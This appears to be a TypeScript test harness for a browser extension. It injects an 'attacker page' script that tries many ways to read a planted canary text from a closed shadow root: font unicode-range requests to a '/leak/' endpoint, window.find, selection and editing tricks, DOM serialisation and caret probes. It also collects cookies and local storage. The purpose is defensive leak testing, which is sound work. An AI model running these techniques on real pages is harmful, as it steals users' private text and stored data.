/**
 * Runs in the attacker's page: every way known of getting at text that is drawn on a page but does not belong to it. Beside it
 * stands something that can be stolen, so that each way is seen to work.
 */

declare global {
  var thief: { steal(characters: string[], words: string[]): Promise<Record<string, string>>; selections: string[] };
}

/** Text in a closed root of the page's own, drawn as an incautious extension would. */
export const CANARY = { word: 'Glimmerfen', character: 'Ω' };

export function thiefScript(): string {
  return `(${installThief})(${JSON.stringify(CANARY)})`;
}

/** Fonts that ask a server for each of `characters` that is drawn in them, under every name a style sheet may mean. */
export function tellingFonts(characters: string[]): string {
  return FAMILIES.flatMap((family, index) =>
    characters.map((character) => {
      const code = character.codePointAt(0)?.toString(16);
      return `@font-face{font-family:${family};src:url(/leak/${index}/${code});unicode-range:U+${code}}`;
    }),
  ).join('');
}

const GENERIC = 'system-ui,sans-serif,serif,monospace,cursive,fantasy,math,emoji,ui-sans-serif,ui-serif,ui-monospace,initial,inherit'.split(',');
const NAMED = [
  'Times New Roman,Times,Arial,Helvetica,Helvetica Neue,Segoe UI,Roboto,Ubuntu,Cantarell,Noto Sans,DejaVu Sans,Liberation Sans,Liberation Serif',
  'Tinos,Arimo,Open Sans,Verdana,Tahoma,Georgia,Courier New,SF Pro Text,San Francisco,Lucida Grande,Noto Color Emoji',
].flatMap((names) => names.split(','));
const VENDORS = ['system-ui', '-apple-system', 'BlinkMacSystemFont', '-webkit-standard', '-webkit-body'];
/** The canary's own comes first. */
const FAMILIES = ['Inter', ...[...GENERIC, ...NAMED].map((name) => `"${name}"`), ...VENDORS];

function installThief({ word, character }: typeof CANARY): void {
  const selections: string[] = [];
  document.addEventListener('selectionchange', () => selections.push(`${getSelection()}`));
  addEventListener('DOMContentLoaded', () => {
    const canary = document.createElement('div');
    canary.style.cssText = 'position:absolute;left:900px;top:60px;font-family:Inter';
    canary.attachShadow({ mode: 'closed' }).innerHTML = `<p style="font-family:Inter">${word} ${character}</p>`;
    document.body.append(canary);
  });

  const attempt = (theft: () => unknown): string => {
    try {
      return String(theft());
    } catch (error) {
      return String(error);
    }
  };
  const elements = () => [...document.querySelectorAll<HTMLElement>('*')];

  /** What `find` answers to each question: whole words, and single characters from which whole texts are found one after the other. */
  const found = (questions: string[]) =>
    questions
      .filter((question) => {
        getSelection()?.removeAllRanges();
        return (window as any).find(question, false, false, true, false, true, false);
      })
      .join('\n');

  const selected = () => {
    const all: unknown[] = [];
    const selection = getSelection() as Selection & { getComposedRanges?(): unknown[] };
    const take = () =>
      all.push(selection, selection.rangeCount && selection.getRangeAt(0).cloneContents().textContent, JSON.stringify(selection.getComposedRanges?.()));
    document.execCommand('selectAll');
    take();
    document.designMode = 'on';
    document.execCommand('selectAll');
    take();
    document.designMode = 'off';
    document.documentElement.contentEditable = 'true';
    document.execCommand('selectAll');
    take();
    document.documentElement.removeAttribute('contenteditable');
    selection.selectAllChildren(document.documentElement);
    take();
    selection.collapse(document.body, 0);
    for (let step = 0; step < 40; step++) {
      selection.modify('extend', 'forward', step % 2 ? 'word' : 'line');
      take();
    }
    for (const element of elements()) {
      const range = document.createRange();
      range.selectNode(element);
      all.push(range, range.cloneContents().textContent, range.createContextualFragment('<p>').textContent);
    }
    selection.removeAllRanges();
    return all.map(String).join('\n');
  };

  const walked = () =>
    [
      document.documentElement.outerHTML,
      attempt(() => (document.documentElement as any).getHTML({ serializableShadowRoots: true })),
      new XMLSerializer().serializeToString(document),
      document.body.innerText,
      document.documentElement.textContent,
      document.evaluate('string(//body)', document, null, XPathResult.STRING_TYPE).stringValue,
      ...elements().flatMap((element) => [
        element.innerText,
        element.cloneNode(true),
        element.shadowRoot?.innerHTML,
        element.title,
        element.ariaLabel,
        element.ariaDescription,
        (element as any).computedName,
        JSON.stringify(element.dataset),
        attempt(() => element.attachInternals().shadowRoot?.innerHTML),
        attempt(() => (element as any).openOrClosedShadowRoot?.innerHTML),
        ...['::before', '::after', '::marker', '::backdrop'].map((pseudo) => getComputedStyle(element, pseudo).content),
        [...getComputedStyle(element)].map((name) => getComputedStyle(element).getPropertyValue(name)).join(),
      ]),
    ].join('\n');

  const pointedAt = () => {
    const all: unknown[] = [];
    for (let y = 5; y < innerHeight; y += 12)
      for (let x = 5; x < 520; x += 32) {
        const node = document.caretPositionFromPoint(x, y)?.offsetNode;
        const range = document.caretRangeFromPoint(x, y);
        (range as any)?.expand?.('block');
        all.push(document.elementFromPoint(x, y)?.outerHTML.slice(0, 300), node?.textContent?.slice(0, 300), `${range}`.slice(0, 300));
      }
    return all.map(String).join('\n');
  };

  const kept = async () =>
    [
      JSON.stringify(performance.getEntries()),
      document.cookie,
      JSON.stringify(localStorage),
      JSON.stringify(sessionStorage),
      JSON.stringify(await indexedDB.databases()),
      JSON.stringify(await caches.keys()),
      JSON.stringify(history.state),
      location.href,
      document.title,
      [...document.styleSheets, ...document.adoptedStyleSheets].length,
      [...document.fonts].filter((font) => font.status !== 'unloaded').map((font) => font.family).length,
      Object.getOwnPropertyNames(window).filter((name) => /kith|note|chrome\.runtime/i.test(name)),
      JSON.stringify((window as any).chrome?.runtime ?? 'no runtime'),
    ].join('\n');

  globalThis.thief = {
    selections,
    steal: async (characters, words) => {
      const loot = { find: found([...characters, ...words]), selection: selected(), walk: walked(), points: pointedAt(), kept: await kept() };
      getSelection()?.removeAllRanges();
      return loot;
    },
  };
}
